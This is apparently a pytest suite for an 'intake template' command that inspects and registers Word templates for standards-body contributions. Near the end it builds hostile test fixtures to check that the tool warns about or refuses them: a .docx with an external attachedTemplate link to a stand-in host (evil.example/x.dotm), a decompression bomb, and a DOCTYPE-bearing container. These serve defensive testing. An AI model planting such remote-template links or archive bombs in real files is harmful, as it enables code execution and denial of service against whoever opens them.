"""What `intake template` tells a person, and what it puts in force."""

import io
import json
import zipfile
from datetime import date
from pathlib import Path

import pytest

from intake.adapters.rulebook.profiles import load_profile
from intake.cli.main import run_command
from intake.pipeline.desk.rulebooks.templates import profile_id
from tests.readers import resaving
from tests.readers.build import archive, contribution
from tests.readers.samples import filled, template

Told = pytest.CaptureFixture[str]


@pytest.fixture
def home(tmp_path: Path, capsys: Told) -> Path:
    """A fresh home."""
    assert run_command(["init", str(tmp_path / "home"), "--non-interactive"]) == 0
    capsys.readouterr()
    return tmp_path / "home"


def kept(folder: Path, name: str, content: bytes) -> str:
    (folder / name).write_bytes(content)
    return str(folder / name)


def typed(home: Path, *words: str) -> int:
    return run_command(["template", *words, "--home", str(home)])


@pytest.mark.parametrize(
    ("name", "group", "expected"),
    [
        ("JCA-MV template.docx", "jca-mv", "jca-mv-template"),
        ("Contribution 2026.dotx", "jca-mv", "jca-mv-contribution-2026"),
        ("Contribution 2026.dotx", "", "contribution-2026"),
        ("文稿.docx", "jca-mv", "jca-mv-template"),
    ],
)
def test_a_template_is_called_by_its_group_and_its_file(name: str, group: str, expected: str) -> None:
    assert profile_id(name, group) == expected


def test_a_dotx_is_registered_and_accepts_what_is_written_on_it(home: Path, tmp_path: Path, capsys: Told) -> None:
    file = kept(tmp_path, "Contribution 2026.dotx", resaving.as_dotx(template("L1")))
    days = ("--valid-from", "2026-01-01", "--accept-until", "2026-12-31")
    assert typed(home, "register", file, "--group", "jca-mv", *days) == 0
    told = capsys.readouterr().out
    assert "jca-mv-contribution-2026 is in force for jca-mv: 12 fields." in told
    assert "Please look" not in told
    profile = load_profile(home / "templates" / "jca-mv-contribution-2026.toml")
    assert (profile.kind, profile.where, len(profile.fields)) == ("contribution", "body", 12)
    assert (profile.valid_from, profile.accept_until, profile.example) == (date(2026, 1, 1), date(2026, 12, 31), False)
    assert (home / "templates" / "jca-mv-contribution-2026.dotx").read_bytes() == Path(file).read_bytes()
    assert run_command(["rules", "show", "jca-mv", "--home", str(home), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["templates"] == ["jca-mv-contribution-2026"]


def test_a_template_for_liaison_statements_stands_beside_the_one_for_contributions(
    home: Path, tmp_path: Path, capsys: Told
) -> None:
    file = kept(tmp_path, "liaison.docx", template("L4"))
    assert typed(home, "register", file, "--group", "jca-mv", "--kind", "liaison_out") == 0
    capsys.readouterr()
    assert run_command(["rules", "show", "jca-mv", "--home", str(home), "--json"]) == 0
    assert len(json.loads(capsys.readouterr().out)["templates"]) == 2


def test_a_filled_in_reference_is_told(home: Path, tmp_path: Path, capsys: Told) -> None:
    file = kept(tmp_path, "mine.docx", filled("fr"))
    assert typed(home, "inspect", file) == 0
    assert "Please look: It looks like a document that somebody filled in" in capsys.readouterr().out
    assert typed(home, "register", file, "--group", "jca-mv") == 0
    told = capsys.readouterr().out
    assert "Please look: It looks like a document that somebody filled in" in told
    assert "Sample texts that authors have to replace" not in told


def test_a_template_is_inspected_by_a_person(home: Path, tmp_path: Path, capsys: Told) -> None:
    file = kept(tmp_path, "author template.docx", template("L3"))
    assert typed(home, "inspect", file) == 0
    told = capsys.readouterr().out.splitlines()
    assert told[0] == "author-template, for documents of the kind contribution"
    assert "The cover stands in the body; cells in each row: 4 5 2 2 3 3 1" in told
    assert "Word calls it: ItutBasic-Template.dot" in told
    place = told.index("source (counts for the score)")
    assert told[place + 1].startswith("  label: Source (and ")
    assert told[place + 2 : place + 4] == ["  bookmarks: dsource", "  sample texts: <Source>"]
    assert told[-1] == "The template under its own profile: score 1.00."


def test_a_template_is_inspected_as_a_file_that_can_be_edited(home: Path, tmp_path: Path, capsys: Told) -> None:
    file = kept(tmp_path, "author.docx", template("L3"))
    assert typed(home, "inspect", file, "--toml") == 0
    (tmp_path / "author.toml").write_text(capsys.readouterr().out, encoding="utf-8")
    assert load_profile(tmp_path / "author.toml").templates == ("ItutBasic-Template.dot",)


@pytest.mark.parametrize(
    ("name", "content", "words", "told"),
    [
        (
            "t.docx",
            template("L2"),
            ("--kind", "contributon"),
            "'contributon' is no kind of document; choose one of contrib",
        ),
        ("t.docx", b"%PDF-1.7", (), "t.docx is no Word template that can be learned from (it is a pdf file). Take the"),
        ("t.docx", template("L2")[:900], (), "t.docx is no Word template that can be learned from (unreadable). Take"),
    ],
)
def test_a_mistake_is_one_clear_sentence(
    home: Path, tmp_path: Path, capsys: Told, name: str, content: bytes, words: tuple[str, ...], told: str
) -> None:
    assert typed(home, "inspect", kept(tmp_path, name, content), *words) == 2
    assert told in " ".join(capsys.readouterr().err.split())


def test_a_template_is_inspected_without_a_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Told) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("INTAKE_HOME", raising=False)
    assert run_command(["template", "inspect", kept(tmp_path, "author.docx", template("L3"))]) == 0
    assert capsys.readouterr().out.startswith("author, for documents of the kind contribution\n")
    assert list(tmp_path.iterdir()) == [tmp_path / "author.docx"]


def test_a_home_that_is_named_has_to_be_there(tmp_path: Path, capsys: Told) -> None:
    assert typed(tmp_path / "nowhere", "inspect", kept(tmp_path, "author.docx", template("L3"))) == 3
    assert "nowhere" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("words", "told"),
    [
        pytest.param((), True, id="no-kind"),
        pytest.param(("--kind", "td"), True, id="another-kind"),
        pytest.param(("--kind", "liaison_out"), False, id="its-kind"),
    ],
)
def test_a_template_for_liaison_statements_is_known(
    tmp_path: Path, home: Path, capsys: Told, words: tuple[str, ...], told: bool
) -> None:
    file = kept(tmp_path, "liaison.docx", template("L4"))
    assert typed(home, "inspect", file, *words) == 0
    assert ("Please look: It has a row 'For action to'" in capsys.readouterr().out) is told


def with_link(content: bytes, kind: str, target: str) -> bytes:
    """This Word file with one more relationship of its main part, which leads elsewhere."""
    space = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    with zipfile.ZipFile(io.BytesIO(content)) as opened:
        parts = {name: opened.read(name) for name in opened.namelist()}
    link = f'<Relationship Id="rEvil" Type="{space}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    rels = "word/_rels/document.xml.rels"
    parts[rels] = parts[rels].replace(b"</Relationships>", link.encode())
    return archive(parts)


OF_3GPP = contribution(
    (("3GPP TSG-RAN WG1 Meeting #90", "R1-1712345"), ("Title:", ""), ("Source:", ""), ("Document for:", "Decision"))
)


def test_a_template_whose_copy_would_be_returned_is_not_registered(home: Path, tmp_path: Path, capsys: Told) -> None:
    before = sorted((home / "templates").iterdir())
    file = kept(tmp_path, "tdoc.docx", OF_3GPP)
    assert typed(home, "register", file, "--group", "jca-mv") == 2
    told = " ".join(capsys.readouterr().err.split())
    assert (
        "tdoc.docx was not registered, as documents on it would be returned: it was filled in as a trial, and it"
        in told
    )
    assert "looks like a form of 3GPP" in told
    assert sorted((home / "templates").iterdir()) == before
    assert typed(home, "inspect", file) == 0
    assert "Please look: A document on it would be returned" in " ".join(capsys.readouterr().out.split())


def test_the_score_that_the_group_asks_for_counts_in_the_trial(home: Path, tmp_path: Path, capsys: Told) -> None:
    site = home / "rules" / "site.toml"
    told = site.read_text(encoding="utf-8").replace("[policy]\n", "[policy]\ntemplate_match = 0.95\n")
    site.write_text(told, encoding="utf-8")
    rows = (("Title:", ""), ("Source:", ""), ("Scope:", "x"), ("Aim:", "y"))
    assert typed(home, "register", kept(tmp_path, "own.docx", contribution(rows)), "--group", "jca-mv") == 2
    assert "a document needs 0.95" in " ".join(capsys.readouterr().err.split())


def test_a_template_that_could_act_is_told(home: Path, tmp_path: Path, capsys: Told) -> None:
    hostile = with_link(template("L1"), "attachedTemplate", "https://evil.example/x.dotm")
    assert typed(home, "register", kept(tmp_path, "t.docx", hostile), "--group", "jca-mv") == 0
    told = " ".join(capsys.readouterr().out.split())
    assert "Please look: It holds content that could act on a reader's computer (remote-template)" in told


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(archive({"[Content_Types].xml": "<Types/>", "word/document.xml": bytes(60_000_000)}), id="bomb"),
        pytest.param(
            archive({"[Content_Types].xml": "<!DOCTYPE x><Types/>", "word/document.xml": "<x/>"}), id="doctype"
        ),
    ],
)
def test_a_template_that_nobody_should_open_is_refused(
    home: Path, tmp_path: Path, capsys: Told, content: bytes
) -> None:
    assert typed(home, "register", kept(tmp_path, "t.docx", content), "--group", "jca-mv") == 2
    told = " ".join(capsys.readouterr().err.split())
    assert "t.docx is no Word template that can be learned from (container). Take the empty template" in told
    assert list((home / "templates").glob("*t.*")) == []
